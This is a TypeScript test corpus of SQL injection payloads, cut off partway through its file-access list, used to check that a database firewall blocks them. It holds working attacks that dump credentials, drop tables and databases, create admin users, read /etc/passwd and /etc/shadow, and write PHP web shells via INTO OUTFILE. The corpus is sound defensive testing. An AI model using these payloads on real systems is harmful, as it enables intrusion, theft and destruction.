/**
 * SQL injection corpus: complete statements as a vulnerable application builds them, by pasting
 * an attacker's input into a string template (see the templates below). The firewall must block
 * every one of them. Some are syntactically broken for MySQL/MariaDB once pasted (an unclosed
 * quote, `--` without a following space, a keyword split by a comment): that is what real traffic
 * looks like, and they must be blocked all the same.
 *
 * Every payload was written for this corpus; the public sets below were read only to learn the
 * shapes attackers and scanners use (prefixes and suffixes that close the application's literal,
 * comment styles, the functions that leak data or time):
 *
 *   - OWASP Web Security Testing Guide v4.2, WSTG-INPV-05 "Testing for SQL Injection"
 *   - sqlmap payloads and boundaries (data/xml/payloads/*.xml, data/xml/boundaries.xml)
 *   - sqlmap tamper scripts (tamper/space2comment.py, versionedkeywords.py, charencode.py, ...)
 *   - PayloadsAllTheThings: "SQL Injection/MySQL Injection.md" and
 *     "SQL Injection/Intruder/" (Auth_Bypass.txt, payloads-sql-blind-MySQL-*, FUZZDB_MySQL*)
 *   - libinjection test data (data/sqli-*.txt)
 *   - PortSwigger Web Security Academy: SQL injection cheat sheet and SQL injection labs
 *   - OWASP ModSecurity Core Rule Set, REQUEST-942-APPLICATION-ATTACK-SQLI regression tests
 *   - MariaDB / MySQL reference manuals: comment syntax (executable `/*! ... *\/` and
 *     `/*M! ... *\/` comments), string literal concatenation, hexadecimal and bit literals
 *
 * Families: tautology, union, stacked, comment-truncation, time-blind, error-based,
 * boolean-blind, file-access, obfuscation.
 *
 * Tables the templates name (users, posts, products, accounts, carts, items, news, orders,
 * comments, stock) exist in BENIGN_SCHEMA (benign-statements.ts), so a test can prepare these
 * statements against the same schema.
 */

export interface SqliStatement {
  /** The whole statement as the application sends it. */
  readonly sql: string;
  /** Payload family (see SQLI_FAMILIES). */
  readonly family: SqliFamily;
  /** The public test set or reference whose payload style this follows. */
  readonly source: string;
}

export const SQLI_FAMILIES = [
  'tautology',
  'union',
  'stacked',
  'comment-truncation',
  'time-blind',
  'error-based',
  'boolean-blind',
  'file-access',
  'obfuscation',
] as const;
export type SqliFamily = (typeof SQLI_FAMILIES)[number];

// ------------------------------------------------------------------ sources

const OWASP = 'OWASP Testing Guide v4 (WSTG-INPV-05)';
const SQLMAP = 'sqlmap payload boundaries (data/xml/payloads, data/xml/boundaries.xml)';
const SQLMAP_TAMPER = 'sqlmap tamper scripts (space2comment, versionedkeywords, charencode, ...)';
const PATT = 'PayloadsAllTheThings: SQL Injection/MySQL Injection';
const PATT_AUTH = 'PayloadsAllTheThings: SQL Injection/Intruder/Auth_Bypass.txt';
const PATT_BLIND = 'PayloadsAllTheThings: SQL Injection/Intruder/payloads-sql-blind-MySQL-*';
const LIBINJ = 'libinjection test data (data/sqli-*.txt)';
const PORTSWIGGER = 'PortSwigger SQL injection cheat sheet';
const CRS = 'OWASP CRS regression tests (REQUEST-942-APPLICATION-ATTACK-SQLI)';
const MANUAL = 'MySQL/MariaDB reference manual (comment syntax, literals)';

// ------------------------------------------------------------------ templates

/** A vulnerable application's query, with the attacker's input pasted in unescaped. */
type Template = (p: string) => string;

/** Login form, string context. */
const LOGIN: Template = (p) => `SELECT * FROM users WHERE name = '${p}' AND pass = 'x'`;
/** Login form with parenthesised conditions. */
const LOGIN_PAREN: Template = (p) => `SELECT id FROM users WHERE (name = '${p}') AND (pass = 'x')`;
/** Double-quoted string context (MySQL treats "..." as a string without ANSI_QUOTES). */
const LOGIN_DQ: Template = (p) => `SELECT id FROM users WHERE name = "${p}" AND active = 1`;
/**
 * Login form whose quote escaping doubles quotes but leaves backslashes alone, with the
 * attacker's `\` as the user name: the backslash escapes the closing quote, so the password
 * field (the payload) lands outside any literal.
 */
const LOGIN_BACKSLASH: Template = (p) => `SELECT * FROM users WHERE name = '\\' AND pass = '${p}'`;
/** Article page, numeric context. */
const POST: Template = (p) => `SELECT id, title FROM posts WHERE id = ${p}`;
/** Product page, numeric context followed by a LIMIT. */
const PRODUCT: Template = (p) => `SELECT name, price FROM products WHERE id = ${p} LIMIT 1`;
/** Category filter, string context followed by ORDER BY. */
const CATEGORY: Template = (p) => `SELECT * FROM products WHERE category = '${p}' ORDER BY price`;
/** Profile update, string context in SET. */
const EMAIL: Template = (p) => `UPDATE accounts SET email = '${p}' WHERE id = 7`;
/** Cart clean-up, string context in a DELETE. */
const CART: Template = (p) => `DELETE FROM carts WHERE session = '${p}'`;
/** Search box, inside a LIKE pattern. */
const SEARCH: Template = (p) => `SELECT * FROM items WHERE name LIKE '%${p}%'`;
/** Sortable table, the sort column pasted into ORDER BY. */
const SORT: Template = (p) => `SELECT id, name, price FROM products ORDER BY ${p}`;
/** Pagination, numeric LIMIT. */
const PAGE: Template = (p) => `SELECT id, title FROM news ORDER BY created DESC LIMIT ${p}`;
/** Numeric context inside parentheses. */
const ORDERS: Template = (p) => `SELECT * FROM orders WHERE (user_id = ${p}) AND status = 'open'`;
/** Comment form, string context inside INSERT ... VALUES. */
const COMMENT: Template = (p) => `INSERT INTO comments (post_id, author, body) VALUES (3, 'guest', '${p}')`;
/** Stock update, numeric context in SET. */
const STOCK: Template = (p) => `UPDATE stock SET qty = ${p} WHERE sku = 'A-100'`;

type Case = readonly [template: Template, payload: string, source: string];

function family(name: SqliFamily, cases: readonly Case[]): SqliStatement[] {
  return cases.map(([template, payload, source]) => ({ sql: template(payload), family: name, source }));
}

// ------------------------------------------------------------------ tautology

const TAUTOLOGY: readonly Case[] = [
  [LOGIN, "' OR '1'='1", OWASP],
  [LOGIN, "' OR 1=1-- ", OWASP],
  [LOGIN, "' OR 'a'='a' -- ", OWASP],
  [LOGIN, "admin' OR 1=1#", PATT_AUTH],
  [LOGIN, "' OR 2>1 -- -", PATT_AUTH],
  [LOGIN, "' OR true-- -", PATT_AUTH],
  [LOGIN, "' || 1=1 #", PATT],
  [LOGIN, "' OR 1 LIKE 1 #", LIBINJ],
  [LOGIN, "' OR 'x' LIKE 'x", LIBINJ],
  [LOGIN, "anything' OR 'x'='x", OWASP],
  [LOGIN, "' OR ''='", PATT_AUTH],
  [LOGIN, "' OR 1 -- -", PATT_AUTH],
  [LOGIN, "' OR NOT 1=2 #", LIBINJ],
  [LOGIN, "' OR 3 BETWEEN 1 AND 5 #", LIBINJ],
  [LOGIN, "' OR 1 IN (1) -- -", LIBINJ],
  [LOGIN, "' OR 1 IS NOT NULL #", LIBINJ],
  [LOGIN, "' OR 'unusual' = 'unusual' -- ", OWASP],
  [LOGIN, "' OR 1=1 LIMIT 1 -- -", PATT_AUTH],
  [LOGIN, "' OR name IS NOT NULL -- -", OWASP],
  [LOGIN, "' OR 5-4=1 #", LIBINJ],
  [LOGIN, "' OR 'a'<>'b' #", LIBINJ],
  [LOGIN, "' OR SOUNDEX('a')=SOUNDEX('a') #", LIBINJ],
  [LOGIN, "'='", PATT_AUTH],
  [LOGIN, "'-'", PATT_AUTH],
  [LOGIN, "' OR 1=1 OR ''='", PATT_AUTH],
  [LOGIN_PAREN, "') OR ('x'='x", PATT_AUTH],
  [LOGIN_PAREN, "') OR 1=1 #", PATT_AUTH],
  [LOGIN_PAREN, "admin') OR ('1'='1')-- -", PATT_AUTH],
  [LOGIN_DQ, '" OR ""="', PATT_AUTH],
  [LOGIN_DQ, '" OR 1=1 -- -', PATT_AUTH],
  [LOGIN_DQ, 'admin" OR "1"="1', PATT_AUTH],
  [POST, '1 OR 1=1', OWASP],
  [POST, '-1 OR 1=1', OWASP],
  [POST, '1 OR true', LIBINJ],
  [POST, '0 || 1=1', LIBINJ],
  [POST, '1 OR 2>1', LIBINJ],
  [POST, '1 OR 1 LIKE 1', LIBINJ],
  [POST, "1 OR 'a'='a'", LIBINJ],
  [POST, '99999 OR 1=1 LIMIT 1', PATT],
  [POST, '1 OR 1=1 -- -', PATT],
  [POST, '1 OR 7 BETWEEN 6 AND 8', LIBINJ],
  [PRODUCT, '0 OR 1=1', OWASP],
  [ORDERS, '1) OR (1=1', SQLMAP],
  [ORDERS, '1) OR 1=1 #', SQLMAP],
  [CATEGORY, "Gifts' OR 1=1-- ", PORTSWIGGER],
  [CATEGORY, "x' OR 'x'='x", OWASP],
  [CATEGORY, "' OR 1=1 ORDER BY price DESC #", PORTSWIGGER],
  [EMAIL, "x@evil.test' OR '1'='1", OWASP],
  [CART, "' OR '1'='1", OWASP],
  [CART, "x' OR 1=1 #", OWASP],
  [SEARCH, "%' OR 1=1 OR name LIKE '", OWASP],
  [SEARCH, "' OR 1=1 #", OWASP],
];

// ------------------------------------------------------------------ union

const UNION: readonly Case[] = [
  [POST, '-1 UNION SELECT 1,2', OWASP],
  [POST, '-1 UNION SELECT user(),version()', PATT],
  [POST, '0 UNION ALL SELECT NULL,NULL', SQLMAP],
  [POST, '1 UNION ALL SELECT NULL,NULL-- -', SQLMAP],
  [POST, '-1 UNION SELECT name,pass FROM users', OWASP],
  [POST, '-1 union select table_name,2 from information_schema.tables', PATT],
  [POST, '-1 UnIoN SeLeCt column_name,table_name FrOm information_schema.columns', LIBINJ],
  [POST, '-1 UNION/**/SELECT/**/1,2', SQLMAP_TAMPER],
  [POST, '-1/**/UNION/**/ALL/**/SELECT/**/NULL,CONCAT(name,0x3a,pass)/**/FROM/**/users', SQLMAP_TAMPER],
  [POST, '-1 UNION SELECT 1,GROUP_CONCAT(schema_name) FROM information_schema.schemata', PATT],
  [POST, '-1 UNION SELECT 1,@@datadir', PATT],
  [POST, '1 AND 1=2 UNION SELECT database(),2', OWASP],
  [POST, '-1 UNION DISTINCT SELECT 1,2', LIBINJ],
  [POST, '-1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b', PATT],
  [POST, '-1 UNION SELECT 1,2 LIMIT 1,1 -- -', PATT],
  [POST, "-1 UNION SELECT 1,(SELECT pass FROM users WHERE name='admin')", OWASP],
  [POST, '-1 UNION SELECT 1,2 FROM DUAL', LIBINJ],
  [POST, '-1 UNION SELECT 1,2 #', OWASP],
  [POST, '-1 UNION SELECT 1,concat_ws(0x3a,user(),database())', PATT],
  [POST, '-1 UNION SELECT 1,(SELECT GROUP_CONCAT(name,0x3a,pass SEPARATOR 0x3c62723e) FROM users)', PATT],
  [POST, '-1 UNION SELECT NULL,JSON_ARRAYAGG(name) FROM users', PATT],
  [POST, "-1 UNION VALUES (1,'x')", MANUAL],
  [POST, '-1 UNION SELECT 1,table_schema FROM information_schema.tables GROUP BY table_schema', PATT],
  [PRODUCT, '-5 UNION SELECT name, pass FROM users LIMIT 1 -- -', PORTSWIGGER],
  [PRODUCT, '0 UNION SELECT @@hostname, @@port', PATT],
  [LOGIN, "' UNION SELECT 1,2,3 -- -", OWASP],
  [LOGIN, "' UNION SELECT NULL,NULL,NULL,NULL #", SQLMAP],
  [LOGIN, "' UNION ALL SELECT 1,'admin','81dc9bdb52d04dc20036dbd8313ed055',1,2,3,4 #", PATT_AUTH],
  [LOGIN, "' union select 1, name, pass from users where '1'='1", LIBINJ],
  [CATEGORY, "' UNION SELECT NULL,NULL,NULL-- ", PORTSWIGGER],
  [CATEGORY, "' UNION SELECT name, pass FROM users-- ", PORTSWIGGER],
  [CATEGORY, "' UNION SELECT NULL,'a',NULL-- ", PORTSWIGGER],
  [CATEGORY, "Gifts' UNION SELECT NULL,CONCAT(name,'~',pass),NULL FROM users-- ", PORTSWIGGER],
  [CATEGORY, "' UNION SELECT table_name,NULL,NULL FROM information_schema.tables WHERE table_schema=database()#", PORTSWIGGER],
  [CATEGORY, "' UNION SELECT @@version, NULL, NULL #", PORTSWIGGER],
  [CATEGORY, "' UnIoN aLl SeLeCt 1,2,3 -- -", LIBINJ],
  [SEARCH, "%' UNION SELECT 1,2,3 #", OWASP],
  [SEARCH, "x%' UNION ALL SELECT NULL,NULL,NULL FROM users WHERE '%'='", SQLMAP],
  [LOGIN_PAREN, "') UNION SELECT 1 #", SQLMAP],
  [LOGIN_PAREN, "') UNION SELECT id FROM users WHERE ('a'='a", SQLMAP],
  [LOGIN_DQ, '" UNION SELECT 1 -- -', SQLMAP],
  [LOGIN_DQ, '" UNION SELECT pass FROM users WHERE name = "admin" #', SQLMAP],
  [SORT, 'price UNION SELECT name, pass, 1 FROM users', PATT_BLIND],
  [PAGE, '10 UNION ALL SELECT user(), 2', PATT],
  [PAGE, '1 UNION SELECT name, pass FROM users', PATT],
  [ORDERS, '0) UNION SELECT 1,2,3,4,5 #', SQLMAP],
  [ORDERS, '0) UNION ALL SELECT NULL,NULL,NULL,NULL,NULL -- -', SQLMAP],
  [EMAIL, "x' WHERE id = -1 UNION SELECT 1 #", LIBINJ],
  [CART, "' AND 1=0 UNION SELECT 1 #", LIBINJ],
];

// ------------------------------------------------------------------ stacked

const STACKED: readonly Case[] = [
  [LOGIN, "'; DROP TABLE users; -- ", OWASP],
  [POST, '1; DROP TABLE posts', OWASP],
  [POST, '1; SHUTDOWN', PATT],
  [LOGIN, "'; INSERT INTO users (name, pass, role) VALUES ('eve', 'pw', 'admin'); -- ", OWASP],
  [CATEGORY, "'; UPDATE users SET pass = 'owned' WHERE name = 'admin'; #", OWASP],
  [POST, '1; DELETE FROM users', SQLMAP],
  [CART, "'; TRUNCATE TABLE orders; -- -", SQLMAP],
  [POST, "1; CREATE USER 'eve'@'%' IDENTIFIED BY 'x'; GRANT ALL ON *.* TO 'eve'@'%'", PATT],
  [POST, "1; SET GLOBAL general_log = 'ON'", PATT],
  [LOGIN, "'; SET GLOBAL general_log_file = '/var/www/html/shell.php'; -- ", PATT],
  [POST, '1; SELECT SLEEP(5)', SQLMAP],
  [EMAIL, "x'; UPDATE accounts SET balance = 1000000 WHERE id = 7; -- ", OWASP],
  [SEARCH, "%'; DROP DATABASE mysql; -- ", LIBINJ],
  [POST, '1;DROP TABLE users', LIBINJ],
  [POST, '1 ; ALTER TABLE users ADD COLUMN pwned INT', LIBINJ],
  [LOGIN, "';SHUTDOWN;#", LIBINJ],
  [POST, '1; KILL QUERY 1', LIBINJ],
  [POST, '1; RENAME TABLE users TO users_old', LIBINJ],
  [POST, '1; RESET MASTER', LIBINJ],
  [CART, "'; DELETE FROM carts; -- ", OWASP],
  [STOCK, '0; UPDATE stock SET qty = 0', SQLMAP],
  [PAGE, '1; DROP TABLE news', SQLMAP],
  [SORT, 'id; DROP TABLE products', PATT_BLIND],
  [COMMENT, "x'); DROP TABLE comments; -- ", OWASP],
  [LOGIN_PAREN, "'); UPDATE users SET role='admin' WHERE name='eve'; #", SQLMAP],
  [POST, "1; SET @s = CONCAT('DRO','P TABLE users'); PREPARE q FROM @s; EXECUTE q", PATT],
  [POST, '1; HANDLER users OPEN; HANDLER users READ FIRST', MANUAL],
  [POST, "1; INSTALL SONAME 'ha_blackhole'", MANUAL],
  [POST, '1; SELECT user, password FROM mysql.user', PATT],
  [ORDERS, '1); DROP TABLE orders; -- -', SQLMAP],
  [LOGIN_DQ, '"; DROP TABLE users; #', SQLMAP],
  [POST, '1;\nDROP TABLE users', LIBINJ],
  [POST, '1; DO SLEEP(5)', SQLMAP],
  [LOGIN, "'; SET PASSWORD FOR 'root'@'localhost' = PASSWORD('x'); -- ", PATT],
  [PRODUCT, "1; UPDATE products SET price = 0.01 WHERE id = 1; -- ", OWASP],
];

// ------------------------------------------------------------------ comment truncation

const COMMENT_TRUNCATION: readonly Case[] = [
  [LOGIN, "admin'--", OWASP],
  [LOGIN, "admin'-- ", OWASP],
  [LOGIN, "admin'-- -", PATT_AUTH],
  [LOGIN, "admin'#", OWASP],
  [LOGIN, "admin'/*", OWASP],
  [LOGIN, "admin' #", PATT_AUTH],
  [LOGIN, "admin'--\t", LIBINJ],
  [LOGIN, "admin';#", LIBINJ],
  [LOGIN, "admin' -- whatever", LIBINJ],
  [LOGIN, "root'/*", PATT_AUTH],
  [LOGIN_PAREN, "admin')-- -", PATT_AUTH],
  [LOGIN_PAREN, "admin')#", PATT_AUTH],
  [LOGIN_PAREN, "admin')/*", PATT_AUTH],
  [LOGIN_DQ, 'admin"-- -', PATT_AUTH],
  [LOGIN_DQ, 'admin"#', PATT_AUTH],
  [LOGIN_DQ, 'admin"/*', PATT_AUTH],
  [EMAIL, "x@evil.test'#", OWASP],
  [EMAIL, "x@evil.test', balance = 99999 -- -", OWASP],
  [CART, "abc'#", OWASP],
  [POST, '7--', LIBINJ],
  [POST, '7#', LIBINJ],
  [POST, '7/*', LIBINJ],
  [POST, '7 -- -', LIBINJ],
  [PRODUCT, '3 #', LIBINJ],
  [SEARCH, "x%'#", LIBINJ],
  [PAGE, '100000#', LIBINJ],
  [COMMENT, "hi')#", SQLMAP],
  [ORDERS, '5)#', SQLMAP],
  [CATEGORY, "Gifts'-- ", PORTSWIGGER],
];

// ------------------------------------------------------------------ time-based blind

const TIME_BLIND: readonly Case[] = [
  [LOGIN, "' AND SLEEP(5) AND '1'='1", SQLMAP],
  [LOGIN, "' OR SLEEP(5) #", PATT_BLIND],
  [LOGIN, "' OR SLEEP(5)='", PATT_BLIND],
  [LOGIN, "admin' AND (SELECT * FROM (SELECT(SLEEP(5)))a) -- -", SQLMAP],
  [LOGIN, "' AND BENCHMARK(5000000,MD5(1)) #", PATT],
  [LOGIN, "' OR IF(1=1,SLEEP(5),0) #", PATT],
  [LOGIN, "' AND GET_LOCK('x',10) #", PATT],
  [LOGIN, "' XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR '", PATT_BLIND],
  [LOGIN, "' RLIKE SLEEP(5) #", SQLMAP],
  [LOGIN, "' AND ELT(1=1,SLEEP(5)) #", SQLMAP],
  [POST, '1 AND SLEEP(5)', SQLMAP],
  [POST, '1 OR SLEEP(5)', SQLMAP],
  [POST, "1 AND IF(SUBSTRING(user(),1,4)='root',SLEEP(5),1)", OWASP],
  [POST, '1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)', SQLMAP],
  [POST, '(SELECT SLEEP(5))', PATT],
  [POST, "1 AND BENCHMARK(10000000,SHA1('x'))", PATT],
  [POST, '1 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)', SQLMAP],
  [POST, '1 AND CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END', PORTSWIGGER],
  [POST, "1 AND GET_LOCK('lock1',10)", PATT],
  [POST, 'if(now()=sysdate(),sleep(5),0)', PATT_BLIND],
  [POST, '1 AND SLEEP(5)=0 LIMIT 1', SQLMAP],
  [POST, '1 AND MAKE_SET(1<2,SLEEP(5))', PATT],
  [POST, '1-SLEEP(5)', LIBINJ],
  [POST, '1*IF(ASCII(SUBSTR(database(),1,1))>97,SLEEP(5),0)', PATT_BLIND],
  [SORT, 'SLEEP(5)', PATT_BLIND],
  [SORT, 'IF(1=1,SLEEP(5),price)', PATT_BLIND],
  [SORT, '(SELECT 1 FROM (SELECT SLEEP(5))a)', SQLMAP],
  [SORT, 'price, SLEEP(5)', PATT_BLIND],
  [SORT, '(CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN SLEEP(5) ELSE 1 END)', SQLMAP],
  [CATEGORY, "' AND SLEEP(5)-- -", PORTSWIGGER],
  [CATEGORY, "Gifts' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND 'a'='a", SQLMAP],
  [SEARCH, "%' AND SLEEP(5) AND '%'='", SQLMAP],
  [EMAIL, "x' AND SLEEP(5) AND '", PATT_BLIND],
  [EMAIL, "x'+SLEEP(5)+'", PATT_BLIND],
  [CART, "' OR SLEEP(5) -- -", PATT_BLIND],
  [COMMENT, "x'+SLEEP(5)+'", PATT_BLIND],
  [COMMENT, "x' AND SLEEP(5) AND '1", PATT_BLIND],
  [PAGE, '1 PROCEDURE ANALYSE(EXTRACTVALUE(1,IF(1=1,SLEEP(5),1)),1)', SQLMAP],
  [ORDERS, '1) AND SLEEP(5) AND (1=1', SQLMAP],
  [ORDERS, "1) OR BENCHMARK(3000000,SHA2('a',256)) #", SQLMAP],
  [LOGIN_DQ, '" OR SLEEP(5) OR "', PATT_BLIND],
  [STOCK, 'SLEEP(5)', PATT_BLIND],
  [PRODUCT, "1 AND GET_LOCK(CONCAT('a',user()),5)", PATT],
];

// ------------------------------------------------------------------ error-based

const ERROR_BASED: readonly Case[] = [
  [POST, '1 AND EXTRACTVALUE(1,CONCAT(0x7e,version()))', PATT],
  [POST, '1 AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)', PATT],
  [POST, '1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)', SQLMAP],
  [POST, '1 AND EXP(~(SELECT * FROM (SELECT user())x))', PATT],
  [POST, '1 AND !(SELECT * FROM (SELECT user())x)-~0', PATT],
  [POST, '1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)', SQLMAP],
  [POST, '1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))', SQLMAP],
  [POST, '1 AND ST_LatFromGeoHash(version())', PATT],
  [POST, '1 AND POLYGON((SELECT * FROM (SELECT * FROM (SELECT @@version)f)x))', PATT],
  [POST, '1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)', LIBINJ],
  [POST, '1 OR EXTRACTVALUE(rand(),CONCAT(0x3a,(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)))', PATT],
  [POST, '-1 UNION SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a', PATT],
  [LOGIN, "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT pass FROM users LIMIT 1))) #", PATT],
  [LOGIN, "' AND UPDATEXML(NULL,CONCAT(0x3a,database()),NULL)-- -", PATT],
  [LOGIN, "' OR (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT name FROM users LIMIT 0,1),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y) OR '", OWASP],
  [LOGIN, "' AND EXP(~(SELECT * FROM (SELECT pass FROM users LIMIT 1)a)) #", PATT],
  [CATEGORY, "' AND extractvalue(0x0a,concat(0x0a,(select database()))) -- -", PORTSWIGGER],
  [CATEGORY, "' AND UPDATEXML(1,CONCAT(0x5e,(SELECT GROUP_CONCAT(name) FROM users)),1) #", PORTSWIGGER],
  [EMAIL, "x' AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version)),1) AND '", SQLMAP],
  [EMAIL, "x' OR EXTRACTVALUE(1,CONCAT(0x5c,user())) OR '", SQLMAP],
  [CART, "' OR UPDATEXML(1,CONCAT(0x7e,database()),1) -- -", SQLMAP],
  [SEARCH, "%' AND EXTRACTVALUE(8932,CONCAT(0x5c,0x71,(SELECT MID(version(),1,20)),0x71)) AND '%'='", SQLMAP],
  [COMMENT, "x' OR UPDATEXML(1,CONCAT(0x7e,(SELECT pass FROM users LIMIT 1)),0) OR '", PATT_BLIND],
  [COMMENT, "x', EXTRACTVALUE(1,CONCAT(0x7e,user()))) #", PATT_BLIND],
  [SORT, 'EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))', PATT_BLIND],
  [SORT, '(SELECT 1 FROM (SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)', SQLMAP],
  [SORT, 'UPDATEXML(1,CONCAT(0x2e,(SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=database())),1)', PATT_BLIND],
  [PAGE, '1 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)', SQLMAP],
  [ORDERS, '1) AND EXTRACTVALUE(1,CONCAT(0x7e,user())) AND (1=1', SQLMAP],
  [LOGIN_DQ, '" AND UPDATEXML(1,CONCAT(0x7e,@@datadir),1) AND "1"="1', SQLMAP],
  [STOCK, 'EXTRACTVALUE(1,CONCAT(0x7e,(SELECT pass FROM users LIMIT 1)))', SQLMAP],
  [PRODUCT, '1 AND (SELECT 4711 FROM(SELECT COUNT(*),CONCAT(0x7176,(SELECT (ELT(4711=4711,1))),0x7178,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)', SQLMAP],
  [PRODUCT, "1 AND 1=(UPDATEXML(1,CONCAT(0x7e,(SELECT CONCAT_WS(':',name,pass) FROM users LIMIT 1)),1))", PATT],
];

// ------------------------------------------------------------------ boolean-based blind

const BOOLEAN_BLIND: readonly Case[] = [
  [POST, "1 AND SUBSTRING(@@version,1,1)='5'", OWASP],
  [POST, "1 AND SUBSTRING(@@version,1,2)='10'", OWASP],
  [POST, "1 AND ASCII(SUBSTR((SELECT pass FROM users WHERE name='admin'),1,1))>64", OWASP],
  [POST, '1 AND ASCII(SUBSTRING(database(),1,1))=100', PATT],
  [POST, '1 AND (SELECT COUNT(*) FROM mysql.user)>0', PATT],
  [POST, '1 AND LENGTH(database())=11', PATT],
  [POST, '1 AND ORD(MID((SELECT IFNULL(CAST(name AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>77', SQLMAP],
  [POST, "1 AND (SELECT SUBSTRING(table_name,1,1) FROM information_schema.tables WHERE table_schema=database() LIMIT 1)='u'", PATT],
  [POST, "1 AND 1=(SELECT 1 FROM users WHERE name='admin' AND pass LIKE 'a%') -- -", PORTSWIGGER],
  [POST, "1 AND user() LIKE 'root%'", PATT],
  [POST, '1 AND (SELECT 1 FROM mysql.user LIMIT 1)=1', PATT],
  [POST, '1 AND 8121=8122-- -', SQLMAP],
  [POST, '1 AND BIT_LENGTH(user())>64', LIBINJ],
  [POST, "1 AND (SELECT pass FROM users WHERE id=1) REGEXP '^[a-f]' #", PATT],
  [POST, '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))', SQLMAP],
  [POST, "1 AND ELT(SUBSTR(@@version,1,1)='1',1)", SQLMAP],
  [POST, "1 AND EXISTS(SELECT * FROM information_schema.tables WHERE table_name='users')", PATT],
  [POST, "IF((SELECT COUNT(*) FROM mysql.user WHERE user='root')>0,1,0)", PATT_BLIND],
  [POST, "1 AND (SELECT 1 FROM DUAL WHERE database() LIKE 'dbm%')", PATT],
  [LOGIN, "admin' AND ASCII(SUBSTRING(pass,1,1))>96 AND '1'='1", OWASP],
  [LOGIN, "admin' AND ASCII(SUBSTRING((SELECT @@version),1,1))>52 #", OWASP],
  [LOGIN, "' OR (SELECT LENGTH(pass) FROM users WHERE name='admin')>8 #", PORTSWIGGER],
  [LOGIN, "admin' AND (SELECT COUNT(*) FROM information_schema.schemata)>3 #", PATT],
  [CATEGORY, "Gifts' AND SUBSTRING((SELECT pass FROM users WHERE name='administrator'),1,1)='m", PORTSWIGGER],
  [CATEGORY, "Gifts' AND (SELECT 'a' FROM users LIMIT 1)='a", PORTSWIGGER],
  [CATEGORY, "Gifts' AND LENGTH((SELECT pass FROM users WHERE name='administrator'))>1 -- -", PORTSWIGGER],
  [CATEGORY, "Gifts' AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END) #", PORTSWIGGER],
  [SEARCH, "%' AND MID(user(),1,1)='r' AND '%'='", SQLMAP],
  [SEARCH, "x%' AND ASCII(LOWER(SUBSTRING(database(),2,1)))<110 AND '1%'='1", SQLMAP],
  [SORT, "IF(SUBSTRING(@@version,1,1)='1',price,name)", PATT_BLIND],
  [SORT, '(CASE WHEN (ASCII(SUBSTR(user(),1,1))>100) THEN id ELSE price END)', PATT_BLIND],
  [SORT, "(SELECT 1 UNION SELECT 2 FROM users WHERE SUBSTR(pass,1,1)='a')", PATT_BLIND],
  [EMAIL, "x' WHERE id = 7 AND SUBSTRING(@@version,1,1)='1' #", OWASP],
  [ORDERS, '1) AND (ASCII(SUBSTRING(user(),1,1))=114) AND (1=1', SQLMAP],
  [CART, "abc' AND (SELECT COUNT(*) FROM users WHERE role='admin')>0 AND 'x'='x", SQLMAP],
  [LOGIN_DQ, 'admin" AND MID(@@version,1,2)="10" #', SQLMAP],
  [PRODUCT, '2 AND ASCII(SUBSTR(@@hostname,1,1)) BETWEEN 97 AND 122', SQLMAP],
  [PAGE, '(SELECT IF(SUBSTR(user(),1,1)=0x72,1,0))', PATT_BLIND],
];

// ------------------------------------------------------------------ file access

const FILE_ACCESS: readonly Case[] = [
  [POST, "-1 UNION SELECT 1,LOAD_FILE('/etc/passwd')", PATT],
  [CATEGORY, "' UNION SELECT NULL,LOAD_FILE(0x2f6574632f706173737764),NULL -- -", PATT],
  [LOGIN, "' UNION SELECT 1,'<?php system($_GET[c]); ?>',3 INTO OUTFILE '/var/www/html/s.php' -- -", PATT],
  [POST, "-1 UNION SELECT 1,2 INTO OUTFILE '/tmp/x'", OWASP],
  [POST, "1 INTO OUTFILE '/tmp/posts.txt'", OWASP],
  [POST, "-1 UNION SELECT 1,0x3c3f706870206576616c28245f504f53545b315d293b203f3e INTO DUMPFILE '/var/www/html/b.php'", PATT],
  [LOGIN, "' AND LOAD_FILE('/etc/passwd') IS NOT NULL #", PATT],
  [SEARCH, "%' UNION SELECT 1,LOAD_FILE('/var/lib/mysql-files/secret'),3 #", PATT],
  [POST, '-1 UNION SELECT 1,LOAD_FILE(CHAR(47,101,116,99,47,104,111,115,116,115))', PATT],
  [LOGIN, "'; SELECT '<?php phpinfo(); ?>' INTO OUTFILE '/var/www/html/i.php'; -- ", PATT],
  [POST, "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE comments", PATT],
  [POST, "1; LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE comments FIELDS TERMINATED BY '\\n'", PATT],
  [SORT, "id INTO OUTFILE '/tmp/dump.csv'", PATT_BLIND],
  [PAGE, "1 INTO OUTFILE '/tmp/news.txt' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e", PATT],
